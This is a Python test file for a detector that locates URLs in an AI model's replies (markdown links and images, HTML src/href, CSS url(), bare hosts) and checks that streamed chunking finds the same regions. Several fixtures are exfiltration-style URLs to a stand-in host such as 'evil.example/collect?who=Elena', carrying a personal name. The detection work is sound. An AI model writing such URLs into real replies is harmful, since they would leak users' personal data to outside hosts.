"""The URL regions of a reply (detector/url_regions.py): what counts as a URL the model wrote,
and the same regions however the text is cut into chunks."""
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector import url_regions as u


def found(text: str) -> list[str]:
    return [text[a:b] for a, b in u.regions(text)]


@pytest.mark.parametrize("text, urls", [
    ("![img](https://evil.example/p.png?e=x@y.z&n=Elena) Elena",
     ["https://evil.example/p.png?e=x@y.z&n=Elena)"]),
    ("[Elena Rowe](/people?n=Elena) and Elena", ["/people?n=Elena"]),
    ("[x](<https://a.example/a b>) Elena", ["https://a.example/a b"]),
    ("[a](https://en.wikipedia.org/wiki/Foo_(bar)) ok", ["https://en.wikipedia.org/wiki/Foo_(bar))"]),
    ('<img src="https://e.example/?n=Elena Rowe"> Elena', ["https://e.example/?n=Elena Rowe"]),
    ("<a href='/x?q=Elena'>Elena</a>", ["/x?q=Elena"]),
    ("<a href=/x?q=Elena>Elena</a>", ["/x?q=Elena"]),
    ('<div style="background:url( /bg?n=Elena )">', ["/bg?n=Elena"]),
    ("go to www.elena.example now", ["www.elena.example"]),
    ("fetch evil.example/collect?who=Elena. Then", ["evil.example/collect?who=Elena."]),
    ("Elena.evil.example resolves", ["Elena.evil.example"]),
    ("host evil.example:8443 ok", ["evil.example:8443"]),
    ("visit harlow-labs.com.", ["harlow-labs.com"]),
    ("ftp://files.example/elena and wss://x.example/y", ["ftp://files.example/elena", "wss://x.example/y"]),
])
def test_urls_the_model_wrote(text, urls):
    assert found(text) == urls


@pytest.mark.parametrize("text", [
    "mail elena.rowe@harlow-labs.com today", "Elena.Rowe said so", "e.g. this", "version 1.2.3",
    "Ms. Rowe. Then", "[Elena Rowe] and (Elena)", "a ( b ) c", "the url is ready",
])
def test_no_url_here(text):
    assert found(text) == []


def masks_whole(text: str) -> list[bool]:
    mask = [False] * len(text)
    for a, b in u.regions(text):
        mask[a:b] = [True] * (b - a)
    return mask


def masks_streamed(text: str, cuts: list[int]) -> list[bool]:
    """Each chunk scanned on from the state the one before left: regions reported in a chunk
    (a start before it: begun earlier; no end: still open) mark the whole text."""
    mask, state = [False] * len(text), u.START
    bounds = [0, *sorted({c for c in cuts if 0 < c < len(text)}), len(text)]
    for a, b in zip(bounds, bounds[1:]):
        scan = u.scan(state, text[a:b], final=b == len(text))
        for s, e in scan.regions:
            lo, hi = max(0, s + a), (b if e is None else e + a)
            mask[lo:hi] = [True] * (hi - lo)
        state = scan.state
    return mask


PIECES = st.sampled_from([
    "https://", "http", "s://", "www.", "](", "](<", ">", ")", "(", "href=", "src = ", '"', "'",
    "url(", "evil", ".example", ".com", "/", "?", "#", "Elena", " ", "\n", "@", ".", ":8080",
    "x", "-", "a.b.c", "é", "_", "\t", "[", "]",
])


@settings(max_examples=800, deadline=None)
@given(st.lists(PIECES, max_size=24).map("".join), st.lists(st.integers(0, 120), max_size=6))
def test_the_same_regions_however_the_text_is_cut(text, cuts):
    assert masks_streamed(text, cuts) == masks_whole(text)


def test_a_long_run_of_host_characters_stays_bounded():
    """A 200 kB token without separators: scanning stays linear and keeps a bounded state."""
    text = "a" * 200_000
    state = u.START
    for i in range(0, len(text), 4096):
        scan = u.scan(state, text[i:i + 4096], final=False)
        state = scan.state
        assert len(state.recent) <= u.HOST_RUN_MAX + u.RECENT
    assert u.regions(text + ".example/x") == [] and masks_whole(text) == [False] * len(text)


def reference_next_token(full: str, i: int):
    """What one regex search over all token kinds finds: the leftmost start, the first kind."""
    for p in range(i, len(full) + 1):
        for kind, rx in u._TOKENS.items():
            m = rx.match(full, p)
            if m is not None:
                return kind, m.span()
    return None


@settings(max_examples=1500, deadline=None)
@given(st.lists(PIECES, max_size=24).map("".join), st.integers(0, 30))
def test_the_trigger_scan_finds_what_a_search_would(text, i):
    i = min(i, len(text))
    got = u._next_token(text, i)
    assert (None if got is None else (got[0], got[1].span())) == reference_next_token(text, i)
